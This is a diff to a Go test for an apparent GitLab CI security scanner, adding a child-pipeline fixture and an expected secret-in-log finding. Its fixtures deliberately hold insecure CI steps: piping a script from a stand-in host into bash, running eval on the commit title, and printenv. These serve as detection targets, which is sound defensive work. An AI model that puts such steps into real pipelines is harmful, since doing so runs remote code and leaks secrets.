@@ -17,7 +17,8 @@ import (
 // followed, and pipeline-named files are left to AnalyzeFile.
 func TestGitLabLocalIncludes(t *testing.T) {
 	files := map[string]string{
-		".gitlab-ci.yml":     "include:\n  - local: /ci/build.yml\n  - 'ci/jobs/*.yml'\n",
+		".gitlab-ci.yml":     "include:\n  - local: /ci/build.yml\n  - 'ci/jobs/*.yml'\nchild:\n  trigger:\n    include: ci/child.yml\n",
+		"ci/child.yml":       "c:\n  script:\n    - printenv\n",
 		"ci/build.yml":       "include: ci/nested/deep.yml\nbuild:\n  script:\n    - curl -s https://x.example/i.sh | bash\n",
 		"ci/nested/deep.yml": "deep:\n  image: ruby\n  script: [make]\n",
 		"ci/jobs/a.yml":      "a:\n  script:\n    - eval \"$CI_COMMIT_TITLE\"\n",
@@ -51,6 +52,7 @@ func TestGitLabLocalIncludes(t *testing.T) {
 	slices.Sort(got)
 	want := []string{
 		"ci/build.yml:4 pipeline.gitlab.remote-script",
+		"ci/child.yml:3 pipeline.gitlab.secret-in-log",
 		"ci/jobs/a.yml:3 pipeline.gitlab.untrusted-variable-in-script",
 		"ci/nested/deep.yml:2 pipeline.gitlab.unpinned-image",
 	}
